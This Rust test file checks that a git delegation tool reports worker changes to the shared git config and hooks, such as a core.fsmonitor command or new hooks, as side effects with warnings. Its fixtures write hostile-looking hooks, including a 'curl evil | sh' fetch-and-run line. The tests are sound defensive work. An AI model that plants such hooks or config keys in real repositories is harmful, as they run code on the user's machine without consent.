//! The shared git dir is watched (design §3.16 "The shared git dir"): a
//! worker in a linked worktree shares the source's `config` and `hooks/`
//! (and a `core.hooksPath` folder), so a key it sets (`core.fsmonitor`) or
//! a hook it writes runs on the user's next git command. apply and its dry
//! run report every change made there while the batch lived as side effects
//! (`{"task": null, "kind": "config" | "hook", "path", "detail"}`) with a
//! warning on stderr; the hook `git delegate hooks install` writes is not
//! reported.

use crate::common::fixtures::task_root;
use std::path::{Path, PathBuf};

use crate::common::assert_has;
use crate::common::files::write_hook;
use crate::common::fixtures::prepare;
use crate::common::Env;
use serde_json::Value;

fn prepare_one(env: &Env, repo: &Path) -> PathBuf {
    let doc = prepare(env, repo, &[]);
    task_root(&doc, 0)
}

/// The common dir, as a worker finds it from its workspace.
fn common_dir(env: &Env, ws: &Path) -> PathBuf {
    let dir = env.git(
        ws,
        ["rev-parse", "--path-format=absolute", "--git-common-dir"],
    );
    std::fs::canonicalize(dir.trim()).unwrap()
}

/// The side effects of `kind` in an apply document, as (change, path, detail).
fn of_kind(doc: &Value, kind: &str) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = doc["side_effects"]
        .as_array()
        .unwrap_or_else(|| panic!("no side_effects in {doc}"))
        .iter()
        .filter(|e| e["kind"] == kind)
        .map(|e| {
            assert!(e["task"].is_null(), "{e}");
            assert!(e["ref"].is_null(), "{e}");
            (
                e["change"].as_str().unwrap().to_string(),
                e["path"].as_str().unwrap().to_string(),
                e["detail"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

fn s(p: &Path) -> String {
    p.to_str().unwrap().to_string()
}

#[test]
fn config_keys_and_hooks_a_worker_changes_are_reported_with_a_warning() {
    let (env, repo) = Env::with_repo("proj");
    env.git(&repo, ["config", "test.keep", "yes"]);
    env.git(&repo, ["config", "test.change", "one"]);
    let git_dir = std::fs::canonicalize(repo.join(".git")).unwrap();
    write_hook(&git_dir.join("hooks/commit-msg"), "#!/bin/sh\nexit 0\n");
    let ws = prepare_one(&env, &repo);

    // The worker, from its workspace: the common dir is the source's.
    let common = common_dir(&env, &ws);
    assert_eq!(common, git_dir);
    let ran = env.path().join("fsmonitor-ran");
    env.git(
        &ws,
        [
            "config",
            "core.fsmonitor",
            &format!("touch {}", ran.display()),
        ],
    );
    env.git(&ws, ["config", "--unset", "test.keep"]);
    env.git(&ws, ["config", "test.change", "two"]);
    write_hook(
        &common.join("hooks/post-checkout"),
        "#!/bin/sh\necho pwned\n",
    );
    std::fs::remove_file(common.join("hooks/commit-msg")).unwrap();
    std::fs::write(ws.join("README"), "by the task\n").unwrap();

    let config = s(&common.join("config"));
    let want_config = vec![
        (
            "changed".to_string(),
            config.clone(),
            "test.change".to_string(),
        ),
        (
            "created".to_string(),
            config.clone(),
            "core.fsmonitor".to_string(),
        ),
        (
            "deleted".to_string(),
            config.clone(),
            "test.keep".to_string(),
        ),
    ];
    let want_hooks = vec![
        (
            "created".to_string(),
            s(&common.join("hooks/post-checkout")),
            "post-checkout".to_string(),
        ),
        (
            "deleted".to_string(),
            s(&common.join("hooks/commit-msg")),
            "commit-msg".to_string(),
        ),
    ];

    // The dry run reports them, and its human text warns on stderr.
    let dry = env
        .delegate(&repo, ["apply", "--dry-run", "--json"])
        .expect(0)
        .json();
    assert_eq!(of_kind(&dry, "config"), want_config, "{dry}");
    assert_eq!(of_kind(&dry, "hook"), want_hooks, "{dry}");
    let human = env.delegate(&repo, ["apply", "--dry-run"]).expect(0);
    for word in ["warning", "core.fsmonitor", "post-checkout", "test.keep"] {
        assert!(human.stderr.contains(word), "{word}: {}", human.stderr);
        assert!(!human.stdout.contains(word), "{word}: {}", human.stdout);
    }
    // The command a worker set is shown, so the user sees what would run,
    // and the printed way to look at it works as printed.
    assert_has(&human.stderr, "touch ");
    let look = crate::common::printed_command(&human.stderr, "git config --file");
    assert_has(&look, "core.fsmonitor");
    let shown = env.sh(&repo, &look).expect(0);
    assert_eq!(shown.stdout.trim(), format!("touch {}", ran.display()));

    let run = env.delegate(&repo, ["apply", "--json"]).expect(0);
    let doc = run.json();
    assert_eq!(doc["tasks"][0]["status"], "applied", "{doc}");
    assert_eq!(of_kind(&doc, "config"), want_config, "{doc}");
    assert_eq!(of_kind(&doc, "hook"), want_hooks, "{doc}");
    assert_has(&run.stderr, "core.fsmonitor");
    // Reported, never changed: the worker's key and hook are still there.
    assert!(std::fs::read_to_string(&config)
        .unwrap()
        .contains("fsmonitor"));
    assert!(common.join("hooks/post-checkout").exists());
}

#[test]
fn the_hook_git_delegate_installs_is_not_reported() {
    let (env, repo) = Env::with_repo("proj");
    let git_dir = std::fs::canonicalize(repo.join(".git")).unwrap();
    // A hook of the user's own, which install chains (pre-commit.local).
    write_hook(&git_dir.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    let ws = prepare_one(&env, &repo);
    env.delegate(&repo, ["hooks", "install"]).expect(0);
    assert!(git_dir.join("hooks/pre-commit.local").exists());
    // And one the worker writes.
    write_hook(&git_dir.join("hooks/pre-push"), "#!/bin/sh\necho pwned\n");
    std::fs::write(ws.join("README"), "by the task\n").unwrap();
    let doc = env.delegate(&repo, ["apply", "--json"]).expect(0).json();
    assert_eq!(
        of_kind(&doc, "hook"),
        vec![(
            "created".to_string(),
            s(&git_dir.join("hooks/pre-push")),
            "pre-push".to_string()
        )],
        "{doc}"
    );
    assert_eq!(of_kind(&doc, "config"), vec![], "{doc}");
}

#[test]
fn a_core_hooks_path_folder_is_watched_too() {
    let (env, repo) = Env::with_repo("proj");
    let shared = env.path().join("shared-hooks");
    write_hook(&shared.join("pre-commit"), "#!/bin/sh\nexit 0\n");
    let shared = std::fs::canonicalize(shared).unwrap();
    env.git(
        &repo,
        ["config", "core.hooksPath", shared.to_str().unwrap()],
    );
    let ws = prepare_one(&env, &repo);
    // The worker asks git where the hooks are, and changes them there.
    let dir = env.git(&ws, ["rev-parse", "--git-path", "hooks"]);
    assert_eq!(Path::new(dir.trim()), shared);
    write_hook(&shared.join("pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
    write_hook(&shared.join("post-merge"), "#!/bin/sh\necho pwned\n");
    std::fs::write(ws.join("README"), "by the task\n").unwrap();
    let doc = env.delegate(&repo, ["apply", "--json"]).expect(0).json();
    assert_eq!(
        of_kind(&doc, "hook"),
        vec![
            (
                "changed".to_string(),
                s(&shared.join("pre-commit")),
                "pre-commit".to_string()
            ),
            (
                "created".to_string(),
                s(&shared.join("post-merge")),
                "post-merge".to_string()
            ),
        ],
        "{doc}"
    );
    assert_eq!(of_kind(&doc, "config"), vec![], "{doc}");
}
